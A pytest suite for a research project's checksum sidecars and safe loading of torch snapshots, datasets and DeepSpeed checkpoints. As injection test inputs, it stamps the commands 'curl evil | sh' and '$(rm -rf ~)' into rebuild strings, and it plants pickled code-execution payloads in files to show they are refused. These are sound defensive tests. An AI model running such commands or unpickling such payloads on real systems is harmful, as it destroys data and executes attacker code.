"""Checksums of snapshots and datasets (study/integrity.py) and the readers that verify them: a truncated or
corrupted file gives one error naming the file and the command that rebuilds it."""

import json
import os
import stat
from pathlib import Path

import numpy as np
import pytest
import torch

from study import integrity
from study.integrity import IntegrityError


def _file(tmp_path, n=10_000, name="f.bin"):
    p = tmp_path / name
    p.write_bytes(np.random.default_rng(0).integers(0, 256, n, dtype=np.uint8).tobytes())
    return p


def test_stamp_then_verify(tmp_path):
    p = _file(tmp_path)
    rec = integrity.stamp(p, rebuild="snakemake --forcerun x")
    side = json.loads((tmp_path / "f.bin.sha256").read_text())
    assert side == rec and side["size"] == 10_000 and len(side["sha256"]) == 64
    assert integrity.verify(p)["sha256"] == rec["sha256"]


def test_no_sidecar_no_check(tmp_path):
    assert integrity.verify(_file(tmp_path)) is None


@pytest.mark.parametrize("damage", ["truncate", "flip", "delete"])
def test_damage_names_file_and_command(tmp_path, damage):
    p = _file(tmp_path)
    integrity.stamp(p, rebuild="snakemake --configfile s.yaml --forcerun train_t3")
    data = p.read_bytes()
    if damage == "truncate":
        p.write_bytes(data[:5000])
    elif damage == "flip":
        p.write_bytes(data[:100] + bytes([data[100] ^ 1]) + data[101:])
    else:
        p.unlink()
    with pytest.raises(IntegrityError) as e:
        integrity.verify(p)
    msg = str(e.value)
    assert str(p) in msg and "snakemake --configfile s.yaml --forcerun train_t3" in msg
    assert "\n" not in msg


def test_large_files_are_sample_hashed(tmp_path, monkeypatch):
    monkeypatch.setattr(integrity, "FULL_HASH_BYTES", 1000)
    monkeypatch.setattr(integrity, "SAMPLE_BYTES", 100)
    p = _file(tmp_path)
    integrity.stamp(p)
    data = bytearray(p.read_bytes())
    data[5000] ^= 1  # the middle of a large file: only a full check sees it
    p.write_bytes(bytes(data))
    integrity.verify(p)
    with pytest.raises(IntegrityError):
        integrity.verify(p, full=True)
    data[-1] ^= 1  # its tail: the default (sampled) check sees it
    p.write_bytes(bytes(data))
    with pytest.raises(IntegrityError):
        integrity.verify(p)


def test_publish_is_an_independent_read_only_copy(tmp_path):
    src = _file(tmp_path, name="src.pt")
    integrity.stamp(src)
    dst = tmp_path / "pub" / "dst.pt"
    integrity.publish(src, dst, rebuild="snakemake --forcerun train_t0")
    assert dst.read_bytes() == src.read_bytes()
    assert os.stat(dst).st_ino != os.stat(src).st_ino and os.stat(src).st_nlink == 1
    assert not os.stat(dst).st_mode & (stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH)
    assert integrity.verify(dst)["rebuild"] == "snakemake --forcerun train_t0"
    # damaging the source (the run folder's copy) refuses to publish it
    src.write_bytes(src.read_bytes()[:-1])
    with pytest.raises(IntegrityError):
        integrity.publish(src, tmp_path / "other.pt")


def test_a_cli_stamps_its_own_outputs(tmp_path):
    """--rebuild CMD (or --stamp): the CLI writes each output's sidecar, the same bytes as `study.integrity stamp`;
    without either it writes none."""
    from analysis import evaluate

    def make_set(out, *flags):
        return evaluate.main(["make-set", "--n-data", "20", "--num-sigmas", "2", "--samples-per-sigma", "3",
                              "--out", str(out), *flags])

    assert make_set(tmp_path / "plain.npz") == 0 and not integrity.sidecar(tmp_path / "plain.npz").exists()
    assert make_set(tmp_path / "a.npz", "--rebuild", "snakemake --forcerun eval_set") == 0
    side = integrity.sidecar(tmp_path / "a.npz").read_bytes()
    assert integrity.main(["stamp", str(tmp_path / "a.npz"), "--rebuild", "snakemake --forcerun eval_set"]) == 0
    assert integrity.sidecar(tmp_path / "a.npz").read_bytes() == side
    assert make_set(tmp_path / "b.npz", "--stamp") == 0 and "rebuild" not in integrity.verify(tmp_path / "b.npz")


def test_check_run_cli(tmp_path):
    from training import run_folder

    snaps = tmp_path / "run" / "snapshots"
    snaps.mkdir(parents=True)
    a, b = _file(snaps, name="snapshot-000000064.pt"), _file(snaps, name="snapshot-000000128.pt")
    integrity.stamp(a), integrity.stamp(b)
    assert run_folder.main(["check-run", str(tmp_path / "run")]) == 0
    b.write_bytes(b.read_bytes()[:10])
    assert run_folder.main(["check-run", str(tmp_path / "run")]) == 3
    assert run_folder.bad_snapshots(tmp_path / "run") and str(b) in run_folder.bad_snapshots(tmp_path / "run")[0]


# --------------------------------------------------------------------------------------------------------------
# the readers
# --------------------------------------------------------------------------------------------------------------

def _dataset(tmp_path):
    from training.dataset import load_dataset, save_npz

    path = save_npz(load_dataset("digits"), tmp_path / "dataset.npz")
    integrity.stamp(path, rebuild="snakemake --forcerun dataset")
    return path


def _truncate(path, keep=0.5):
    data = path.read_bytes()
    os.chmod(path, 0o644)
    path.write_bytes(data[: int(len(data) * keep)])


def test_truncated_dataset_fails_in_every_reader(tmp_path):
    from analysis.evaluate import load_rows
    from training.dataset import load_dataset
    from training.train import open_training_data

    path = _dataset(tmp_path)
    load_dataset(str(path)), open_training_data(path)  # fine before
    _truncate(path)
    for read in (lambda: load_dataset(str(path)), lambda: open_training_data(path),
                 lambda: load_rows(path, {"index": np.arange(3)})):
        with pytest.raises(IntegrityError) as e:
            read()
        assert str(path) in str(e.value) and "snakemake --forcerun dataset" in str(e.value)


def test_truncated_snapshot_fails_when_loaded(tmp_path):
    from models import family
    from models.denoiser import Denoiser

    arch = family.arch_kwargs("t0", resolution=8, channels=1)
    net = family.net_from_kwargs(arch)
    snap = tmp_path / "snapshot-000000064.pt"
    torch.save({"ema": net.state_dict(), "arch": {"name": "t0", "resolution": 8, "channels": 1, "label_dim": 0,
                                                  "kwargs": arch},
                "variant": {"name": "edm", "kwargs": {}}, "images_seen": 64, "flops": 1.0, "params": 1,
                "model": "t0"}, snap)
    integrity.stamp(snap, rebuild="snakemake --forcerun train_t0")
    Denoiser.from_snapshot(snap)
    _truncate(snap, keep=0.9)
    with pytest.raises(IntegrityError) as e:
        Denoiser.from_snapshot(snap)
    assert str(snap) in str(e.value) and "--forcerun train_t0" in str(e.value)


def test_check_run_flags_a_deleted_snapshot(tmp_path):
    from training import run_folder

    snaps = tmp_path / "run" / "snapshots"
    snaps.mkdir(parents=True)
    a = _file(snaps, name="snapshot-000000064.pt")
    integrity.stamp(a)
    a.unlink()
    (err,) = run_folder.bad_snapshots(tmp_path / "run")
    assert str(a) in err and "missing" in err


# --------------------------------------------------------------------------------------------------------------
# reading torch files safely
# --------------------------------------------------------------------------------------------------------------

def test_load_torch_refuses_a_crafted_file_without_running_it(tmp_path, payload):
    marker = tmp_path / "payload-ran"
    path = tmp_path / "snapshot.pt"
    torch.save({"ema": {"w": torch.ones(2)}, "arch": payload(marker)}, path)
    integrity.stamp(path, rebuild="snakemake --forcerun train_t0")  # a matching checksum is no defence
    with pytest.raises(integrity.UnsafeFileError) as e:
        integrity.load_torch(path)
    msg = str(e.value)
    assert msg.startswith(f"{path}: refused") and "posix.system" in msg and "\n" not in msg
    assert msg.endswith("delete it and rebuild it with:  snakemake --forcerun train_t0")  # the sidecar's command
    assert not marker.exists()


def test_a_recorded_command_is_shown_only_when_it_is_plain_snakemake(tmp_path):
    """A sidecar is no signature: a `rebuild` that would run more than snakemake is not offered to be pasted."""
    path = tmp_path / "state.pt"
    torch.save({"w": torch.ones(1)}, path)
    for how, shown in (("snakemake --configfile 'my study.yaml' --forcerun train_t0", True),
                       ("snakemake --forcerun train_t0; curl evil | sh", False),
                       ("snakemake --forcerun $(rm -rf ~)", False)):
        integrity.stamp(path, rebuild=how)
        hint = integrity.rebuild_hint(path)
        assert (how in hint) == shown and (hint == integrity.GENERIC_REBUILD) != shown, hint


def test_load_torch_reads_tensors_and_plain_data_only(tmp_path):
    path = tmp_path / "state.pt"
    obj = {"t": torch.arange(3), "x": [1, 2.5, "a", None, (3, 4)], "d": {"k": True}}
    torch.save(obj, path)
    got = integrity.load_torch(path)
    assert torch.equal(got["t"], obj["t"]) and got["x"] == obj["x"] and got["d"] == obj["d"]
    torch.save({"rng": np.random.get_state()}, path)  # numpy arrays: only where asked for (older state files)
    with pytest.raises(integrity.UnsafeFileError, match="numpy"):
        integrity.load_torch(path)
    assert integrity.load_torch(path, numpy_arrays=True)["rng"][1].dtype == np.uint32


def test_load_torch_names_an_unreadable_file(tmp_path):
    path = tmp_path / "state.pt"
    torch.save({"t": torch.zeros(1000)}, path)
    path.write_bytes(path.read_bytes()[:-300])
    with pytest.raises(IntegrityError) as e:
        integrity.load_torch(path)
    assert str(e.value).startswith(f"{path}: not a readable torch file") and "\n" not in str(e.value)


def test_replace_stamped_matches_after_a_kill_at_any_moment(tmp_path, monkeypatch):
    path = tmp_path / "state.pt"
    first = _file(tmp_path, name="a.tmp")
    integrity.replace_stamped(first, path)
    old = path.read_bytes()
    integrity.verify(path)
    second = _file(tmp_path, n=5000, name="b.tmp")
    monkeypatch.setattr(integrity.os, "replace", lambda *a: (_ for _ in ()).throw(KeyboardInterrupt))
    with pytest.raises(KeyboardInterrupt):  # killed after the sidecar, before the rename
        integrity.replace_stamped(second, path)
    monkeypatch.undo()
    assert path.read_bytes() == old
    assert integrity.verify(path)["size"] == 5000  # the new record; the old file passes as `previous`
    path.write_bytes(old[:-1] + bytes([old[-1] ^ 1]))  # a damaged file matches neither record
    with pytest.raises(IntegrityError):
        integrity.verify(path)


def test_check_folder_wants_exactly_the_recorded_files(tmp_path):
    ds = tmp_path / "state-ds" / "000000064"
    (ds / "pytorch_model").mkdir(parents=True)
    _file(ds / "pytorch_model", name="mp_rank_00_model_states.pt")
    _file(ds, n=100, name="random_states_0.pkl")
    records = integrity.folder_records(ds)
    assert set(records) == {"pytorch_model/mp_rank_00_model_states.pt", "random_states_0.pkl"}
    integrity.check_folder(ds, records)
    for change, expect in ((lambda: _file(ds, n=10, name="random_states_1.pkl"), "not among"),
                           (lambda: (ds / "random_states_0.pkl").unlink(), "missing"),
                           (lambda: (ds / "random_states_0.pkl").write_bytes(b"x" * 100), "sha256")):
        change()
        with pytest.raises(IntegrityError, match=expect):
            integrity.check_folder(ds, records)
        for p in ds.rglob("*"):
            if p.is_file() and p.name.startswith("random"):
                p.unlink()
        _file(ds, n=100, name="random_states_0.pkl")
    integrity.check_folder(ds, records)


def test_deepspeed_checkpoint_is_recorded_in_state_and_checked(tmp_path):
    from training import run_folder

    out = tmp_path / "run"
    ds = out / "state-ds" / "000000064"
    ds.mkdir(parents=True)
    _file(ds, name="mp_rank_00_model_states.pt")
    run_folder.write_state(out, {"images_seen": 64, "world_size": 1}, "state-ds/000000064")
    state = run_folder.load_state(out)
    assert set(state["ds_files"]) == {"mp_rank_00_model_states.pt"}
    assert run_folder.state_problems(out) == []
    (ds / "mp_rank_00_model_states.pt").write_bytes(b"crafted" * 10)  # what DeepSpeed would unpickle
    (err,) = run_folder.state_problems(out)
    assert str(ds / "mp_rank_00_model_states.pt") in err
    with pytest.raises(IntegrityError):
        run_folder.read_state(out, None, 1)
    assert run_folder.main(["check-run", str(out)]) == 3
    # a state.pt without the record (an older trainer's) names its checkpoint unverifiable
    torch.save({"images_seen": 64, "world_size": 1, "ds_dir": "state-ds/000000064"}, out / "state.pt")
    (out / "state.pt.sha256").unlink()
    (err,) = run_folder.state_problems(out)
    assert "without recorded checksums" in err


def test_state_is_plain_data_and_its_rng_round_trips(tmp_path):
    from training import run_folder

    gen = torch.Generator().manual_seed(3)
    np.random.seed(5)
    saved = run_folder.rng_state(gen)
    run_folder.write_state(tmp_path, {"images_seen": 1, "rng": [saved]}, None)
    assert torch.serialization.get_unsafe_globals_in_checkpoint(tmp_path / "state.pt") == []
    assert integrity.verify(tmp_path / "state.pt")["size"] == (tmp_path / "state.pt").stat().st_size  # stamped
    expect = (np.random.rand(3), torch.rand(3, generator=gen))
    np.random.seed(0)
    gen.manual_seed(0)
    run_folder.set_rng_state(run_folder.load_state(tmp_path)["rng"][0], gen)
    got = (np.random.rand(3), torch.rand(3, generator=gen))
    assert np.array_equal(got[0], expect[0]) and torch.equal(got[1], expect[1])


@pytest.mark.slow
def test_deepspeed_resume_refuses_a_tampered_checkpoint(tmp_path, digits, payload):
    """DeepSpeed ZeRO-2 on CPU, stopped at 64 images: state.pt records its checkpoint's files; a file of it
    replaced by a pickled payload (which DeepSpeed / Accelerate would unpickle) stops the resume naming the file,
    and the payload never runs."""
    pytest.importorskip("deepspeed")
    pytest.importorskip("transformers")
    import pickle
    import subprocess
    import sys

    from test_train import ROOT, free_port, run_cli, write_cli_config

    from training import run_folder
    from training.dataset import save_npz

    data = save_npz(digits, tmp_path / "digits.npz")
    out = tmp_path / "run"
    cmd = [sys.executable, "-m", "accelerate.commands.launch", "--config_file",
           str(ROOT / "workflow/accelerate/deepspeed-zero2.yaml"), "--num_processes", "1", "--main_process_port",
           str(free_port()), "-m", "training.train", "--config", str(write_cli_config(tmp_path)), "--model", "t0",
           "--data", str(data), "--out", str(out), "--no-progress"]
    run_cli(cmd + ["--stop-after-images", "64"], {"PYTHONPATH": str(ROOT)})
    state = integrity.load_torch(out / "state.pt")
    ds_dir = out / state["ds_dir"]
    assert set(state["ds_files"]) == {p.relative_to(ds_dir).as_posix() for p in ds_dir.rglob("*") if p.is_file()}
    rng_file = ds_dir / "random_states_0.pkl"
    assert state["ds_files"]["random_states_0.pkl"]["sha256"] == integrity.file_sha256(rng_file)
    marker = tmp_path / "payload-ran"
    with open(rng_file, "wb") as f:
        pickle.dump(payload(marker), f)
    proc = subprocess.run(cmd, cwd=ROOT, env={**os.environ, "OMP_NUM_THREADS": "1", "PYTHONPATH": str(ROOT)},
                          capture_output=True, text=True, timeout=900)
    assert proc.returncode != 0 and f"error: {rng_file}:" in proc.stderr, proc.stderr[-3000:]
    assert not marker.exists()
    assert run_folder.main(["check-run", str(out)]) == 3  # the train rule would start the model afresh


def test_no_code_reads_a_torch_file_with_pickle():
    """Every torch file of the project's code (benchmarks included) is read with weights_only=True."""
    root = Path(__file__).resolve().parent.parent
    offenders = [f"{p.relative_to(root)}:{i}" for folder in ("models", "analysis", "benchmarks", "workflow")
                 for p in sorted((root / folder).rglob("*")) if p.suffix in (".py", ".smk", ".sh")
                 for i, line in enumerate(p.read_text().splitlines(), 1) if "weights_only=False" in line]
    assert not offenders
